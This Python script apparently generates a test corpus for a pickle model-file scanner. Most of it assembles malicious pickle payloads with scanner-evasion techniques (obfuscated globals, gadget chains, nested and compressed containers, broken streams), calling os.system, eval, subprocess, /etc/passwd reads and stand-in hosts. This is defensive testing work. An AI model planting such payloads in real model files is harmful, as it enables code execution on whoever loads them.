#!/usr/bin/python3
"""Generates the picket scan test corpus into OUTDIR and writes OUTDIR/manifest.tsv.

Malicious samples are assembled as raw pickle opcodes (never by pickling live
dangerous objects) and are never loaded. Benign samples are made with the real
libraries (numpy, torch, joblib, scikit-learn) when they are importable; when a
library is missing its samples are skipped and listed in OUTDIR/skipped.tsv so
that the C++ tests can GTEST_SKIP with the reason.

manifest.tsv columns: path, expectation, technique
  expectation: malicious (verdict must be malicious), flagged (malicious or
  suspicious), not_clean (anything but clean/not_a_model), clean, not_a_model.

Usage: /usr/bin/python3 generate.py OUTDIR
"""
import bz2
import gzip
import io
import lzma
import os
import struct
import sys
import tarfile
import zipfile
import zlib

OUT = sys.argv[1] if len(sys.argv) > 1 else "scan_corpus_out"
MANIFEST = []
SKIPPED = []


def write(rel, data, expectation, technique):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    MANIFEST.append((rel, expectation, technique))


def skip(group, why):
    SKIPPED.append((group, why))


# ---------------------------------------------------------------- assembler
def sbu(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def binbytes(b):
    return b"B" + struct.pack("<I", len(b)) + b


def g0(mod, name):  # GLOBAL
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def sg(mod, name):  # STACK_GLOBAL
    return sbu(mod) + sbu(name) + b"\x93"


def call(callable_ops, *args):
    return callable_ops + b"(" + b"".join(args) + b"tR"


def p2(body):
    return b"\x80\x02" + body + b"."


def p4(body):
    return b"\x80\x04" + body + b"."


CMD = "echo PWNED"


def simple(mod, name, *args, proto=4):
    """GLOBAL/STACK_GLOBAL + REDUCE of string arguments."""
    args = args or (CMD,)
    if proto >= 4:
        return p4(call(sg(mod, name), *[sbu(a) for a in args]))
    return p2(call(g0(mod, name), *[bu(a) for a in args]))


MALICIOUS_PICKLE = simple("os", "system")
BENIGN_PICKLE_P2 = b"\x80\x02}q\x00(X\x01\x00\x00\x00aq\x01K\x01X\x01\x00\x00\x00bq\x02]q\x03(K\x02K\x03eu."


def mal(rel, data, technique, expectation="malicious"):
    write("malicious/" + rel, data, expectation, technique)


# ------------------------------------------------------ A. name obfuscation
def gen_names():
    for mod in ("os", "posix", "nt"):
        mal(f"A01_{mod}_system_p0.pkl", f"c{mod}\nsystem\n(S'{CMD}'\ntR.".encode(), "A1 GLOBAL+REDUCE protocol 0")
    mal("A02_builtin_eval_p0.pkl", b"c__builtin__\neval\n(S'1+1'\ntR.", "A2 __builtin__ eval protocol 0")
    mal("A02_builtin_exec_p2.pkl", p2(call(g0("__builtin__", "exec"), bu("import os"))), "A2 __builtin__ exec protocol 2")
    mal("A02_builtins_eval_p3.pkl", b"\x80\x03" + call(g0("builtins", "eval"), bu("1+1")) + b".", "A2 builtins eval protocol 3")
    for mod, name in [("commands", "getoutput"), ("urllib", "urlretrieve"), ("urllib", "urlopen"),
                      ("urllib2", "urlopen"), ("SimpleHTTPServer", "test"), ("BaseHTTPServer", "HTTPServer"),
                      ("httplib", "HTTPSConnection"), ("cPickle", "loads"), ("thread", "start_new_thread")]:
        mal(f"A03_compat_{mod}_{name}.pkl", f"c{mod}\n{name}\n(S'x'\ntR.".encode(), "A3 _compat_pickle mapping")
    mal("A04_inst_eval.pkl", b"(S'__import__(\"os\").system(\"echo PWNED\")'\ni__builtin__\neval\n.", "A4 INST")
    mal("A05_obj_discarded.pkl", f"(cos\nsystem\nS'{CMD}'\no0N.".encode(), "A5 OBJ result popped")
    mal("A06_reduce_popped.pkl", b"\x80\x02cos\nsystem\nX\x0a\x00\x00\x00echo PWNED\x85R0N.", "A6 REDUCE result popped")
    decoy = (b"\x80\x04" + sbu("os") + b"q\x020" + sbu("system") + b"q\x030" + sbu("torch") + b"q\x000" +
             sbu("LongStorage") + b"q\x010" + b"h\x02h\x03\x93(" + sbu("cat flag") + b"tR.")
    mal("A07_memo_decoy.pkl", decoy, "A7 STACK_GLOBAL via memo with decoys")
    mal("A07_memo_decoy_trailing_garbage.pkl", decoy + b"\xde\xad\xbe\xef garbage", "A7 + trailing bytes")
    mixed = (b"\x80\x04" + sbu("os") + b"q\x00" + sbu("system") + b"q\x01" + sbu("torch._utils") + b"\x94" +
             sbu("_rebuild_tensor_v2") + b"\x94" + b"h\x00h\x01\x93" + sbu(CMD) + b"\x85R.")
    mal("A08_memo_mixed_memoize.pkl", mixed, "A8 BINPUT and MEMOIZE numbering")
    ms85 = (b"\x80\x04cnumpy\nprod\nN}" + sbu("a") + sbu("os") + b"s" + sbu("b") + sbu("system") + b"s\x86b0" +
            b"cnumpy\nprod.a\np0\n0cnumpy\nprod.b\np1\n0g0\ng1\n\x93" + sbu(CMD) + b"\x85R.")
    mal("A09_build_then_dotted_memo.pkl", ms85, "A9 memo value produced by BUILD on numpy.prod")
    mal("A10_stack_global_string_ops.pkl", b"\x80\x04S'os'\nS'system'\n\x93S'ls'\n\x85R.", "A10 STACK_GLOBAL with STRING operands")
    rot = lambda s: s.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm"))
    comp = (b"\x80\x04" + sg("codecs", "decode") + sbu(rot("os")) + sbu("rot13") + b"\x86R" +
            sg("codecs", "decode") + sbu(rot("system")) + sbu("rot13") + b"\x86R" + b"\x93" + sbu("id") + b"\x85R.")
    mal("A11_computed_names_rot13.pkl", comp, "A11 STACK_GLOBAL operands computed at load time")
    mal("A12_missing_memo_key.pkl", b"\x80\x02" + call(g0("os", "system"), bu("id")) + b"h\x63.", "A12 payload then missing memo key")
    mal("A12_type_confusion.pkl", b"\x80\x04" + call(sg("os", "system"), sbu("id")) + b"K\x05q\x00h\x00h\x00\x93.", "A12 int memo value as STACK_GLOBAL operand")
    mal("A13_dotted_stack_global.pkl", p4(sg("pathlib", "os.system") + sbu(CMD) + b"\x85R"), "A13 dotted attribute path")
    mal("A13_dotted_global.pkl", b"\x80\x04cpathlib\nos.system\n" + sbu(CMD) + b"\x85R.", "A13 dotted GLOBAL")
    mal("A13_dotted_tempfile_os.pkl", p4(sg("tempfile", "_os.system") + sbu(CMD) + b"\x85R"), "A13 tempfile._os.system")
    mal("A13_dotted_typing_sys.pkl", p4(sg("typing", "sys.modules") + b"0N"), "A13 typing.sys", "flagged")
    mal("A14_midstream_proto.pkl", b"N0\x80\x04cpathlib\nos.system\n(S'id'\ntR.", "A14 PROTO toggled mid-stream")
    mal("A14_duplicate_proto.pkl", b"\x80\x02\x80\x04" + call(sg("os", "system"), sbu("id")) + b".", "A14 duplicate PROTO")


# ------------------------------------------------- B. indirect callables
def gen_indirect():
    mal("B15_pkgutil_resolve_name.pkl", p4(call(call(sg("pkgutil", "resolve_name"), sbu("os:system")), sbu(CMD))), "B15 pkgutil.resolve_name")
    mal("B15_importlib_getattr_static.pkl",
        p4(call(call(sg("inspect", "getattr_static"), call(sg("importlib", "import_module"), sbu("os")), sbu("system")), sbu(CMD))),
        "B15 importlib.import_module + inspect.getattr_static")
    mal("B15_pydoc_locate_methodcaller.pkl",
        p4(call(call(sg("operator", "methodcaller"), sbu("system"), sbu(CMD)), call(sg("pydoc", "locate"), sbu("os")))),
        "B15 pydoc.locate + operator.methodcaller")
    mal("B15_import_attrgetter.pkl",
        p4(call(call(call(sg("_operator", "attrgetter"), sbu("system")), call(sg("builtins", "__import__"), sbu("os"))), sbu(CMD))),
        "B15 __import__ + _operator.attrgetter")
    mal("B15_builtins_getattr.pkl",
        p4(call(call(sg("builtins", "getattr"), call(sg("builtins", "__import__"), sbu("os")), sbu("system")), sbu(CMD))),
        "B15 builtins.getattr")
    mal("B15_functools_partial.pkl", p4(call(call(sg("functools", "partial"), sg("os", "system"), sbu(CMD)))), "B15 functools.partial(os.system)")
    mal("B15_partial_torch_load.pkl",
        p4(call(sg("functools", "partial"), sg("torch", "load"), sbu("/tmp/x.pt")) + b"0N"), "B15 functools.partial(torch.load)")
    mal("B15_copyreg_reconstructor_popen.pkl",
        p2(call(g0("copyreg", "_reconstructor"), g0("__main__", "X"), g0("subprocess", "Popen"), b"]" + bu("id") + b"a")),
        "B15 copyreg._reconstructor with a dangerous base")
    gadgets = [
        ("timeit", "timeit", ("", "import os")), ("cProfile", "run", (CMD,)), ("profile", "run", (CMD,)),
        ("trace", "Trace.run", (CMD,)), ("bdb", "Bdb.run", (CMD,)), ("code", "InteractiveInterpreter.runcode", (CMD,)),
        ("idlelib.pyshell", "ModifiedInterpreter.runcode", (CMD,)), ("idlelib.debugobj", "ObjectTreeItem.SetText", (CMD,)),
        ("idlelib.autocomplete", "AutoComplete.get_entity", (CMD,)), ("idlelib.calltip", "Calltip.fetch_tip", (CMD,)),
        ("idlelib.run", "Executive.runcode", (CMD,)), ("doctest", "debug_script", (CMD,)),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", (CMD,)), ("numpy.testing._private.utils", "runstring", (CMD, "")),
        ("numpy.f2py.crackfortran", "getlincoef", (CMD,)), ("runpy", "_run_code", (CMD,)),
        ("_xxsubinterpreters", "run_string", (CMD,)), ("_interpreters", "run_string", (CMD,)),
        ("types", "CodeType", (CMD,)), ("types", "FunctionType", (CMD,)),
        ("cloudpickle.cloudpickle", "_make_function", (CMD,)), ("cloudpickle.cloudpickle", "_builtin_type", ("CodeType",)),
        ("dill._dill", "_create_function", (CMD,)), ("dill._dill", "_create_code", (CMD,)),
        # B17 hidden subprocess calls
        ("uuid", "_get_command_stdout", ("id",)), ("_osx_support", "_read_output", ("id",)),
        ("_aix_support", "_read_cmd_output", ("id",)), ("imaplib", "IMAP4_stream", ("id",)),
        ("_pyrepl.pager", "pipe_pager", ("", "id")), ("pydoc", "pipepager", ("", "id")),
        ("test.support.script_helper", "assert_python_ok", ("-c", "id")), ("pty", "spawn", ("id",)),
        ("venv", "create", ("/tmp/v",)), ("ensurepip", "_run_pip", ("id",)), ("pip", "main", ("install",)),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start", ("id",)),
        ("multiprocessing.util", "spawnv_passfds", ("/bin/sh",)),
        ("mlflow.projects.backend.local", "_run_entry_point", ("id",)),
        # B18 torch internals
        ("torch._inductor.codecache", "compile_file", ("", "")), ("torch.utils.collect_env", "run", ("id",)),
        ("torch.utils.collect_env", "run_and_read_all", ("id",)), ("torch.utils.bottleneck.__main__", "run_cprofile", (CMD,)),
        ("torch._dynamo.guards", "GuardBuilder.get", (CMD,)),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", (CMD,)),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", (CMD,)),
        ("torch.utils._config_module", "ConfigModule.load_config", ("x",)),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle",)),
        ("torch.serialization", "load", ("/tmp/x",)), ("torch", "load", ("/tmp/x",)), ("torch.hub", "load", ("a/b", "m")),
        # B19 files, network, exfiltration
        ("logging", "FileHandler", ("evil.log",)), ("_io", "FileIO", ("/etc/hosts",)),
        ("distutils.file_util", "write_file", ("/tmp/x", "")), ("urllib.request", "urlopen", ("http://x",)),
        ("ssl", "get_server_certificate", ("x.example",)), ("socket", "create_connection", ("x.example",)),
        ("http.client", "HTTPSConnection", ("x.example",)), ("http.server", "HTTPServer", ("",)),
        ("smtplib", "SMTP", ("x.example",)), ("socketserver", "TCPServer", ("",)), ("ctypes", "CDLL", ("libc.so.6",)),
        ("pandas", "read_csv", ("http://x",)), ("requests", "get", ("http://x",)), ("aiohttp", "ClientSession", ()),
        ("sys", "exit", ("1",)), ("webbrowser", "open", ("http://x",)), ("builtins", "open", ("/etc/passwd",)),
        ("shutil", "rmtree", ("/tmp/x",)), ("subprocess", "check_output", ("id",)), ("posix", "popen", ("id",)),
    ]
    for mod, name, args in gadgets:
        tag = (mod + "_" + name).replace(".", "_")
        mal(f"B_gadget_{tag}.pkl", simple(mod, name, *args) if args else p4(call(sg(mod, name))), f"B16-19 gadget {mod}.{name}")
    # B20 nested pickles
    mal("B20_pickle_loads_nested.pkl", p4(call(sg("pickle", "loads"), binbytes(MALICIOUS_PICKLE))), "B20 pickle.loads nested")
    mal("B20_cpickle_loads_p2.pkl", p2(call(g0("cPickle", "loads"), b"U" + bytes([len(MALICIOUS_PICKLE)]) + MALICIOUS_PICKLE)), "B20 cPickle.loads nested")
    mal("B20_torch_load_from_bytes.pkl", p2(call(g0("torch.storage", "_load_from_bytes"), binbytes(MALICIOUS_PICKLE))),
        "B20 torch.storage._load_from_bytes with malicious nested pickle")
    latin = MALICIOUS_PICKLE.decode("latin1")
    mal("B20_load_from_bytes_codecs.pkl",
        p2(call(g0("torch.storage", "_load_from_bytes"), call(g0("_codecs", "encode"), bu(latin), bu("latin1")))),
        "B20 nested bytes spelled with _codecs.encode")


# -------------------------------------------------- C. stream structure
def gen_stream():
    mal("C21_stacked_benign_then_malicious.pkl", BENIGN_PICKLE_P2 + MALICIOUS_PICKLE, "C21 stacked pickles")
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    proto = b"\x80\x02M\xe9\x03."
    sysinfo = b"\x80\x02}q\x00X\x0d\x00\x00\x00little_endianq\x01\x88s."
    keys = b"\x80\x02]q\x00."
    mal("C21_legacy_torch_magic_payload.pt",
        p2(call(g0("__builtin__", "eval"), bu("0x1950A86A20F9469CFC6C"))) + proto + sysinfo + BENIGN_PICKLE_P2 + keys,
        "C21 legacy torch: payload computes the magic number")
    mal("C21_legacy_torch_main_payload.pt", magic + proto + sysinfo + MALICIOUS_PICKLE + keys + b"\0" * 64,
        "C21 legacy torch: payload in the main pickle")
    mal("C21_legacy_torch_keys_payload.pt", magic + proto + sysinfo + BENIGN_PICKLE_P2 + MALICIOUS_PICKLE + b"\0" * 64,
        "C21 legacy torch: payload in the storage-keys pickle")
    mal("C22_broken_no_stop.pkl", b"cbuiltins\nexec\n(X\x30\x00\x00\x00import os; os.system('echo PWNED')          tR", "C22 no STOP")
    mal("C22_broken_invalid_opcode.pkl", b"\x80\x02" + call(g0("os", "system"), bu(CMD)) + b"\xff\xff", "C22 invalid opcode after payload")
    mal("C22_broken_truncated_unicode.pkl", b"cbuiltins\nexec\n(X>\x00\x00\x00import os", "C22 truncated BINUNICODE (nullifAI)")
    body = sg("os", "system") + sbu(CMD) + b"\x85R."
    mal("C23_frame_crossing.pkl", b"\x80\x04\x95" + struct.pack("<Q", 5) + body, "C23 opcode crosses FRAME end")
    mal("C23_frame_lies_long.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + body, "C23 FRAME length past end")
    mal("C23_frames_alternate.pkl", b"\x80\x04\x95" + struct.pack("<Q", len(sbu("os"))) + sbu("os") + sbu("system") + b"\x93" +
        b"\x95" + struct.pack("<Q", 3) + sbu("id")[:3] + b"\x85R.", "C23 framed and unframed regions")
    mal("C24_protocol5_buffers.pkl", b"\x80\x05\x96" + struct.pack("<Q", 3) + b"abc0\x97\x980" + call(sg("os", "system"), sbu(CMD)) + b".",
        "C24 BYTEARRAY8/NEXT_BUFFER/READONLY_BUFFER before payload")
    mal("C25_crlf_global.pkl", b"cos\r\nsystem\r\n(S'id'\ntR.", "C25 CRLF terminators")
    mal("C25_unicode_escapes.pkl", b"\x80\x04Vo\\u0073\nVsy\\u0073tem\n\x93Vid\n\x85R.", "C25 UNICODE raw escapes")
    mal("C25_binunicode8_binbytes8.pkl", b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack("<Q", 6) + b"system\x93" +
        b"\x8e" + struct.pack("<Q", 2) + b"id\x85R.", "C25 BINUNICODE8/BINBYTES8")
    mal("C25_long_int_forms.pkl", b"I1\nL2L\n0" + b"cos\nsystem\n(S'id'\ntR.", "C25 INT/LONG text forms")
    # C26: resource exhaustion probes must never be clean.
    bomb = b"\x80\x02]q\x00" + b"".join(b"(" + b"h\x00" * 10 + b"lq\x00" for _ in range(12)) + b"."
    write("malicious/C26_expansion_bomb.pkl", bomb, "not_clean", "C26 GET expansion bomb")
    write("malicious/C26_nested_marks.pkl", b"\x80\x02" + b"(" * 200_000 + b"N.", "not_clean", "C26 10^5 nested MARKs")
    write("malicious/C26_huge_memo_index.pkl", b"\x80\x02Nr\xff\xff\xff\xff.", "not_clean", "C26 LONG_BINPUT 0xFFFFFFFF")
    write("malicious/C26_binbytes8_huge.pkl", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 63) + b"abc.", "not_clean", "C26 BINBYTES8 2^63")
    mal("C26_payload_then_huge_length.pkl", b"\x80\x04" + call(sg("os", "system"), sbu("id")) + b"\x8e" + struct.pack("<Q", 1 << 63), "C26 payload before bomb")
    mal("C37_eop_fallback.pkl", b"\x80\x02" + g0("collections", "namedtuple") + b"0" + call(g0("os", "system"), bu("id")) + b".",
        "C37 harmless unlisted global then payload")


# ------------------------------------------------------ D. containers
def torch_like_zip(pickle_bytes, pkl_name="archive/data.pkl", extra=()):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(pkl_name, pickle_bytes)
        z.writestr("archive/version", "3\n")
        z.writestr("archive/data/0", b"\x00" * 64)
        for name, data in extra:
            z.writestr(name, data)
    return buf.getvalue()


def patch_flags(data, bit):
    out = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = 0
        while True:
            i = out.find(sig, i)
            if i < 0:
                break
            flags = struct.unpack_from("<H", out, i + off)[0]
            struct.pack_into("<H", out, i + off, flags | bit)
            i += 4
    return bytes(out)


def write_7z(name, data, attributes=None):
    """Minimal 7z archive with one stored (Copy coder) file. `attributes`, when
    given, is written as the file's attribute word (kAttributes)."""
    def num(n):
        if n < 0x80:
            return bytes([n])
        for i in range(1, 9):
            if n < (1 << (7 * (i + 1))):
                first = (0xFF << (8 - i)) & 0xFF
                return bytes([first | (n >> (8 * i))]) + (n & ((1 << (8 * i)) - 1)).to_bytes(i, "little")
        return b"\xff" + n.to_bytes(8, "little")
    uname = name.encode("utf-16-le") + b"\0\0"
    header = (b"\x01\x04\x06" + num(0) + num(1) + b"\x09" + num(len(data)) + b"\x00" +
              b"\x07\x0b" + num(1) + b"\x00" + b"\x01" + b"\x01\x00" + b"\x0c" + num(len(data)) + b"\x00" +
              b"\x08\x00" + b"\x00" + b"\x05" + num(1) + b"\x11" + num(len(uname) + 1) + b"\x00" + uname)
    if attributes is not None:
        header += b"\x15" + num(6) + b"\x01\x00" + struct.pack("<I", attributes)
    header += b"\x00" + b"\x00"
    start = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + data + header


def xxh32(data, seed=0):
    P1, P2, P3, P4, P5, M = 2654435761, 2246822519, 3266489917, 668265263, 374761393, 0xFFFFFFFF
    rotl = lambda x, r: ((x << r) | (x >> (32 - r))) & M
    assert len(data) < 16
    h = (seed + P5 + len(data)) & M
    i = 0
    while i + 4 <= len(data):
        h = rotl((h + struct.unpack_from("<I", data, i)[0] * P3) & M, 17) * P4 & M
        i += 4
    while i < len(data):
        h = rotl((h + data[i] * P5) & M, 11) * P1 & M
        i += 1
    h ^= h >> 15
    h = h * P2 & M
    h ^= h >> 13
    h = h * P3 & M
    return h ^ (h >> 16)


def lz4_frame(data):
    """LZ4 frame with uncompressed blocks (valid for any LZ4 frame decoder)."""
    desc = bytes([0x60, 0x70])
    out = b"\x04\x22\x4d\x18" + desc + bytes([(xxh32(desc) >> 8) & 0xFF])
    for i in range(0, len(data), 4 << 20):
        block = data[i:i + (4 << 20)]
        out += struct.pack("<I", len(block) | 0x80000000) + block
    return out + b"\0\0\0\0"


def compressors():
    return [("zlib", zlib.compress), ("gzip", gzip.compress), ("bz2", bz2.compress),
            ("xz", lambda d: lzma.compress(d, format=lzma.FORMAT_XZ)),
            ("lzma", lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE)), ("lz4", lz4_frame),
            ("zf", lambda d: b"ZF" + hex(len(d)).encode().ljust(19) + zlib.compress(d))]


def npy_bytes(descr, payload, version=(1, 0), shape="(1,)"):
    header = ("{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (descr, shape)).encode()
    lenfmt = "<H" if version[0] == 1 else "<I"
    pre = 10 if version[0] == 1 else 12
    pad = 64 - (pre + len(header) + 1) % 64
    header += b" " * pad + b"\n"
    return b"\x93NUMPY" + bytes(version) + struct.pack(lenfmt, len(header)) + header + payload


def gen_containers():
    zp = torch_like_zip(MALICIOUS_PICKLE)
    mal("D27_torch_zip_plain.pt", zp, "D torch zip baseline")
    for bit in (0x1, 0x20, 0x40):
        mal(f"D27_torch_zip_flag_{bit:#x}.pt", patch_flags(zp, bit), "D27 flag bits")
    mal("D28_name_mismatch.pt", zp.replace(b"data.pkl", b"datap.kl", 1), "D28 local/central name mismatch")
    mal("D29_bad_crc.pt", zp.replace(CMD.encode(), b"echo PWNEE"), "D29 bad CRC")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.txt", f"cos\nsystem\n(S'{CMD}'\ntR.")
    mal("D30_zip_member_data_txt_p0.zip", buf.getvalue(), "D30 protocol-0 pickle under data.txt")
    mal("D30_torch_config_json.pt", torch_like_zip(BENIGN_PICKLE_P2, extra=[("archive/config.json", MALICIOUS_PICKLE)]),
        "D30 torch zip with pickle_file=config.json")
    mal("D30_raw_pickle_as.bin", MALICIOUS_PICKLE, "D30 raw pickle named .bin")
    for ext in ("safetensors", "png", "json"):
        mal(f"D30_renamed.{ext}", b"\x80\x02" + call(g0("posix", "system"), bu(CMD)) + b".", "D30 misleading extension")
    mal("D31_7z_pickle.7z", write_7z("data.pkl", MALICIOUS_PICKLE), "D31 7z-wrapped pickle")
    mal("D31_7z_torch_zip.7z", write_7z("model.pt", zp), "D31 7z-wrapped torch zip")
    mal("D31_7z_broken_pickle.7z", write_7z("data.pkl", b"cbuiltins\nexec\n(X\x40\x00\x00\x00import os"), "D31 7z + broken pickle")
    # py7zr stores FILE_ATTRIBUTE_UNIX_EXTENSION with the permission bits only
    # (S_IMODE), so the member's file type is unknown (bsdtar: ?rw-r--r--).
    py7zr_attr = 0x20 | 0x8000 | (0o644 << 16)
    mal("D31_7z_no_type_bits_torch_zip.7z", write_7z("model.pt", zp, py7zr_attr), "D31 7z member without type bits (py7zr)")
    mal("D31_7z_no_type_bits_pickle.7z", write_7z("data.pkl", MALICIOUS_PICKLE, py7zr_attr), "D31 7z member without type bits (py7zr)")
    empty_7z = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(bytes(20))) + bytes(20)
    write("malicious/D31_7z_empty.7z", empty_7z, "inconclusive", "D31 empty 7z: nothing to read")
    whole = write_7z("model.pt", zp, py7zr_attr)
    write("malicious/D31_7z_truncated.7z", whole[:len(whole) // 2], "inconclusive", "D31 truncated 7z")
    write("malicious/D31_7z_corrupt.7z", whole[:32] + bytes((i * 37) % 256 for i in range(len(whole) - 32)), "inconclusive", "D31 corrupt 7z")
    eocd_only = b"PK\x05\x06" + bytes(18)
    write("malicious/D33_zip_empty.zip", eocd_only, "inconclusive", "D33 empty ZIP: nothing to read")
    write("malicious/D33_zip_truncated_member.pt", zp[:zp.find(b"archive/version")] + zp[-200:], "inconclusive", "D33 ZIP member data cut away")
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in (("sys_info", b"\x80\x02}."), ("pickle", BENIGN_PICKLE_P2), ("storages", b"\x80\x02K\x01." + MALICIOUS_PICKLE),
                           ("tensors", b"\x80\x02K\x00.")):
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            t.addfile(ti, io.BytesIO(data))
    mal("D32_legacy_tar.tar", tbuf.getvalue(), "D32 legacy torch tar, payload in storages")
    write("malicious/D32_tar_truncated.tar", tbuf.getvalue()[:1024 + 100], "inconclusive", "D32 truncated tar")
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("inner.pkl", MALICIOUS_PICKLE)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as z:
        z.writestr("nested/inner.zip", inner.getvalue())
    mal("D33_nested_zip.zip", outer.getvalue(), "D33 zip inside zip")
    obj_npy = npy_bytes("'|O'", simple("ssl", "get_server_certificate", "x.example", proto=2))
    npz = io.BytesIO()
    with zipfile.ZipFile(npz, "w") as z:
        z.writestr("arr_0.npy", obj_npy)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as z:
        z.writestr("bundle/data.npz", npz.getvalue())
    mal("D33_npz_inside_zip.zip", outer.getvalue(), "D33 npz inside zip")
    z64 = io.BytesIO()
    with zipfile.ZipFile(z64, "w", allowZip64=True) as z:
        with z.open("archive/data.pkl", "w", force_zip64=True) as f:
            f.write(MALICIOUS_PICKLE)
    mal("D33_zip64.pt", z64.getvalue(), "D33 ZIP64 member")

    class Unseekable(io.RawIOBase):
        def __init__(self):
            self.buf = io.BytesIO()

        def writable(self):
            return True

        def write(self, b):
            return self.buf.write(b)
    us = Unseekable()
    with zipfile.ZipFile(us, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", MALICIOUS_PICKLE)
    mal("D33_data_descriptor.pt", us.buf.getvalue(), "D33 data-descriptor member (bit 3)")
    for v in ((1, 0), (2, 0), (3, 0)):
        mal(f"D34_object_npy_v{v[0]}.npy", npy_bytes("'|O'", simple("ssl", "get_server_certificate", "x.example", proto=2), v),
            f"D34 object .npy v{v[0]}.0")
    mal("D34_structured_object_npy.npy", npy_bytes("[('a', '<f8'), ('b', '|O')]", MALICIOUS_PICKLE), "D34 structured dtype with object field")
    for method, tag in ((zipfile.ZIP_STORED, "stored"), (zipfile.ZIP_DEFLATED, "compressed")):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w", method) as z:
            z.writestr("x.npy", npy_bytes("'<f8'", b"\0" * 8))
            z.writestr("evil.npy", obj_npy)
        mal(f"D34_npz_{tag}.npz", b.getvalue(), f"D34 npz {tag} with object member")
    mal("D34_raw_pickle_as.npy", MALICIOUS_PICKLE, "D34 raw pickle named .npy")
    for tag, fn in compressors():
        mal(f"D35_compressed_{tag}.joblib", fn(MALICIOUS_PICKLE), f"D35 {tag}-compressed pickle")


def gen_joblib(np, joblib):
    # Payload after a large array: joblib's NumpyUnpickler skips the array
    # bytes, linear disassemblers choke on them.
    buf = io.BytesIO()
    joblib.dump([np.arange(200_000, dtype=np.float64), "MARKER_PAYLOAD_SLOT"], buf, protocol=2)
    data = buf.getvalue()
    marker = b"X" + struct.pack("<I", 19) + b"MARKER_PAYLOAD_SLOT"
    assert marker in data, "joblib layout changed"
    payload = g0("posix", "system") + bu(CMD) + b"\x85R"
    evil = data.replace(marker, payload)
    mal("D35_joblib_payload_after_array.joblib", evil, "D35 joblib payload after array bytes")
    for tag, fn in compressors():
        mal(f"D35_joblib_{tag}.joblib", fn(evil), f"D35 joblib {tag}-compressed")
    obj = io.BytesIO()
    joblib.dump([np.array([1, "x"], dtype=object), "MARKER_PAYLOAD_SLOT"], obj, protocol=2)
    mal("D35_joblib_object_array_then_payload.joblib", obj.getvalue().replace(marker, payload), "D35 joblib object array then payload")


# ------------------------------------------------------------- benign
def benign(rel, data, technique):
    write("benign/" + rel, data, "clean", technique)


def gen_benign_plain():
    import collections
    import datetime
    import decimal
    import pickle
    value = {"ints": [0, 1, -1, 255, 65535, 2**31, -2**63, 2**100], "floats": [0.5, float("inf")], "str": "héllo",
             "bytes": b"\x00\xff", "bytearray": bytearray(b"ab"), "tuple": (1, (2, 3)), "set": {1, 2}, "frozenset": frozenset([3]),
             "none": None, "bools": [True, False], "complex": 1 + 2j, "od": collections.OrderedDict(a=1),
             "counter": collections.Counter("abca"), "deque": collections.deque([1, 2]), "dd": collections.defaultdict(list, a=[1]),
             "dt": datetime.datetime(2024, 1, 2, 3, 4, 5), "date": datetime.date(2024, 1, 2), "td": datetime.timedelta(3),
             "dec": decimal.Decimal("1.5"), "range": range(3), "slice": slice(1, 5, 2)}
    shared = [1, 2]
    value["shared"] = [shared, shared]
    for proto in range(0, 6):
        benign(f"plain_p{proto}.pkl", pickle.dumps(value, protocol=proto), f"plain data protocol {proto}")
    benign("plain_stacked.pkl", pickle.dumps([1, 2], protocol=2) + pickle.dumps({"a": 1}, protocol=4), "stacked benign pickles")
    benign("plain_p0_string.pkl", pickle.dumps("just a string", protocol=0), "protocol 0 scalar")
    # Files whose names claim no model format are skipped ...
    write("not_model/readme.txt", b"This is a README.\ncopyright notice\n", "skipped", "text file")
    write("not_model/image.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "skipped", "PNG header")
    write("not_model/config.json", b'{"model_type": "bert"}\n', "skipped", "JSON")
    write("not_model/empty.dat", b"", "skipped", "empty file")
    write("not_model/random.dat", bytes((i * 131 + 7) % 251 for i in range(4096)), "skipped", "random bytes")
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr("docs/readme.md", "# hello\n")
    write("not_model/docs.zip", b.getvalue(), "skipped", "zip without models")
    # ... but a model file name over other content is a failed or tampered
    # download: an error (issue 15 item 3).
    html = b"<!DOCTYPE html>\n<html><head><title>404 Not Found</title></head><body>Not Found</body></html>\n"
    write("broken/model.ckpt", html, "error", "HTML error page saved as a checkpoint")
    write("broken/image.pt", b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "error", "PNG renamed .pt")
    write("broken/empty.pkl", b"", "error", "empty .pkl")
